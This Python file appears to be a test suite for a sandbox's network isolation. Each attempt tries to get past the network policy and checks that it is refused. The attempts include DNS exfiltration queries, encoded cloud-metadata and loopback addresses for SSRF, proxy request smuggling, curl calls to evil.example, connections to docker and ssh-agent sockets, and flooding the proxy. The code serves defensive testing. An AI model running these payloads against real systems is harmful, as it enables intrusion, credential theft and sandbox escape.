"""Attempts on the network: to reach what the policy does not name, by whatever name."""
from lair import attempt, claim

PROXY = """
import urllib.parse
proxy = urllib.parse.urlparse(os.environ.get("HTTPS_PROXY", "http://127.0.0.1:1"))
def ask(request, most=2000):
    connection = socket.create_connection((proxy.hostname, proxy.port), 5)
    connection.settimeout(2)
    connection.sendall(request.encode() if isinstance(request, str) else request)
    answer = b""
    while len(answer) < most:
        try:
            piece = connection.recv(most)
        except OSError as no:
            return answer + str(no).encode()
        if not piece:
            break
        answer += piece
        if b"\\r\\n\\r\\n" in answer and b" 200 " in answer[:20]:
            break
    connection.close()
    return answer
def refused(request):
    answer = ask(request)
    print(repr(request)[:90], "->", answer[:100])
    if answer.startswith((b"HTTP/1.1 200", b"HTTP/1.0 200")):
        print("BROKE it was let through")
"""

attempt("connects to the machine's loopback", """
for host in ("127.0.0.1", "localhost", "127.1.2.3", "0.0.0.0", "::1", "::ffff:127.0.0.1"):
    hold(host, lambda: socket.create_connection((host, BESIDE["port"]), 3))
    hold(host, lambda: socket.create_connection((host, 22), 3))
""", seen="words")

attempt("connects to addresses of the machine and its network", """
for host in ("169.254.169.254", "169.254.170.2", "10.0.0.1", "192.168.1.1", "172.17.0.1", "100.100.100.200", "1.1.1.1",
             "fd00:ec2::254", "2606:4700::1111"):
    for port in (80, 443):
        hold(f"{host}:{port}", lambda: socket.create_connection((host, port), 2))
print(open("/proc/net/route").read(), open("/proc/net/tcp").read())
""", seen="words")

attempt("asks a name server", """
for host in ("8.8.8.8", "1.1.1.1", "127.0.0.53", "10.0.0.2", "127.0.0.1"):
    wire = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    wire.settimeout(0.5)
    def query():
        wire.sendto(bytes.fromhex("abcd01000001000000000000") + b"\\x06sekrit\\x07example\\x03org\\0" + bytes.fromhex("00010001"), (host, 53))
        return wire.recv(512)
    hold(host, query)
hold("the resolver", lambda: socket.getaddrinfo("secret-data.example.org", 80))
""", seen="words")

attempt("sends datagrams to a program of the lead's", """
wire = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
wire.settimeout(0.5)
wire.sendto(b"x", ("127.0.0.1", BESIDE["udp"]))
hold("an answer", lambda: wire.recv(100))
for host in ("255.255.255.255", "224.0.0.1"):
    wire.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    hold(host, lambda: wire.sendto(b"x", (host, BESIDE["udp"])))
""", seen="words")

attempt("connects to abstract sockets", """
for line in open("/proc/net/unix"):
    print(line.strip())
for name in (BESIDE["abstract"], "\\0/tmp/.X11-unix/X0", "\\0/tmp/dbus-x", "\\0/org/bluez"):
    wire = socket.socket(socket.AF_UNIX)
    hold(repr(name), lambda: wire.connect(name))
""", seen="words")

attempt("connects to the sockets of agents and desktops", """
uid = os.getuid()
for path in (BESIDE["socket"], "/run/dbus/system_bus_socket", f"/run/user/{uid}/bus", f"/run/user/{uid}/gnupg/S.gpg-agent",
             f"/run/user/{uid}/keyring/ssh", "/tmp/.X11-unix/X0", f"/run/user/{uid}/wayland-0", "/run/docker.sock",
             "/var/run/docker.sock", "/run/podman/podman.sock", "/run/containerd/containerd.sock", "/dev/log",
             "/run/systemd/private", "/run/nscd/socket", "/run/snapd.socket", os.environ.get("SSH_AUTH_SOCK", "/none"),
             STATE + "/floor.sock", "/proc/1/root" + BESIDE["socket"]):
    wire = socket.socket(socket.AF_UNIX)
    hold(path, lambda: wire.connect(path if len(path) < 100 else "/none"))
""", seen="words")

attempt("asks the proxy for a host that is not allowed", PROXY + """
refused("CONNECT evil.example:443 HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n")
refused("CONNECT allowed.test.evil.example:443 HTTP/1.1\\r\\n\\r\\n")
refused("CONNECT evil-allowed.test:443 HTTP/1.1\\r\\n\\r\\n")
refused("GET http://evil.example/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n")
sh("curl -sS -m 5 https://evil.example/; curl -sS -m 5 http://evil.example/")
""", "refused evil.example:443")

attempt("asks the proxy for an address", PROXY + """
for host in ("1.1.1.1", "10.0.0.1", "192.168.0.1", "8.8.8.8"):
    refused(f"CONNECT {host}:443 HTTP/1.1\\r\\n\\r\\n")
""", "refused .*1\\.1\\.1\\.1")

attempt("asks the proxy for the cloud's metadata", PROXY + """
for host in ("169.254.169.254", "metadata.google.internal", "[fd00:ec2::254]", "0xa9fea9fe", "2852039166", "169.254.43518",
             "[::ffff:169.254.169.254]"):
    refused(f"GET http://{host}/latest/meta-data/ HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n")
    refused(f"CONNECT {host}:80 HTTP/1.1\\r\\n\\r\\n")
""", "refused .*169\\.254")

attempt("asks the proxy for the loopback", PROXY + """
port = BESIDE["port"]
for host in ("127.0.0.1", "localhost", "127.1", "0x7f.1", "2130706433", "017700000001", "[::1]", "[::ffff:7f00:1]", "0",
             "0.0.0.0", "localhost.", "LOCALHOST", "127.0.0.1.nip.io"):
    refused(f"CONNECT {host}:{port} HTTP/1.1\\r\\n\\r\\n")
    refused(f"GET http://{host}:{port}/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n")
""", "refused .*(127\\.0\\.0\\.1|localhost)")

attempt("asks for an allowed name that leads to a private address", PROXY + """
# It is in the allow-list and resolves to the loopback.
refused("CONNECT localhost.localdomain:443 HTTP/1.1\\r\\n\\r\\n")
refused("GET http://localhost.localdomain/ HTTP/1.1\\r\\nHost: localhost.localdomain\\r\\n\\r\\n")
sh("curl -sS -m 5 -k https://localhost.localdomain/")
""", "(refused|could not reach) localhost.localdomain")

attempt("smuggles requests through the proxy", PROXY + """
port = BESIDE["port"]
for request in (f"GET http://allowed.test@127.0.0.1:{port}/ HTTP/1.1\\r\\n\\r\\n",
                f"CONNECT allowed.test:443@127.0.0.1:{port} HTTP/1.1\\r\\n\\r\\n",
                f"GET / HTTP/1.1\\r\\nHost: 127.0.0.1:{port}\\r\\n\\r\\n",
                f"GET http://127.0.0.1:{port}/\\x00allowed.test/ HTTP/1.1\\r\\n\\r\\n",
                f"CONNECT allowed.test\\x00.evil.example:443 HTTP/1.1\\r\\n\\r\\n",
                f"CONNECT allowed.test:{port} HTTP/1.1\\r\\n\\r\\n", "CONNECT * HTTP/1.1\\r\\n\\r\\n",
                "CONNECT allowed.test:99999 HTTP/1.1\\r\\n\\r\\n", "\\x16\\x03\\x01" + "x" * 100,
                f"POST http://evil.example/ HTTP/1.1\\r\\nContent-Length: 5\\r\\nContent-Length: 50\\r\\n\\r\\nhello"
                f"GET http://127.0.0.1:{port}/ HTTP/1.1\\r\\n\\r\\n"):
    refused(request)
""", "refused")

attempt("floods the proxy", PROXY + """
refused("GET http://evil.example/" + "x" * 100000 + " HTTP/1.1\\r\\n\\r\\n")
held = []
for n in range(400):
    try:
        wire = socket.create_connection((proxy.hostname, proxy.port), 1)
        wire.sendall(b"CONNECT ")
        held.append(wire)
    except OSError as no:
        print(n, no)
        break
for wire in held:
    wire.close()
for n in range(200):
    refused(f"CONNECT host{n}.evil.example:443 HTTP/1.1\\r\\n\\r\\n")
""", "refused", stands=lambda world, deed: claim(len(world.entries(deed)) < 500, "the log stays short"))

attempt("listens for others", """
wire = socket.socket()
let("a port of the lead's", lambda: wire.bind(("0.0.0.0", BESIDE["port"])))
wire.listen(5)
wire.settimeout(0.3)
hold("somebody comes", wire.accept)
print(os.listdir("/sys/class/net") if os.path.isdir("/sys/class/net") else "no /sys/class/net", socket.if_nameindex())
if [name for _, name in socket.if_nameindex() if name != "lo"]:
    print("BROKE there is another network")
""", seen="words")

attempt("makes itself an interface", """
hold("a bridge", lambda: fcntl.ioctl(socket.socket(), 0x89a0, b"evil0" + bytes(11)))
hold("an address", lambda: fcntl.ioctl(socket.socket(), 0x8916, b"lo" + bytes(14) + struct.pack("=HH4s8x", 2, 0, bytes([10, 0, 0, 1]))))
sh("ip link add evil type dummy; ip addr add 10.1.1.1/8 dev lo; ip route add default via 127.0.0.1")
""", seen="words")
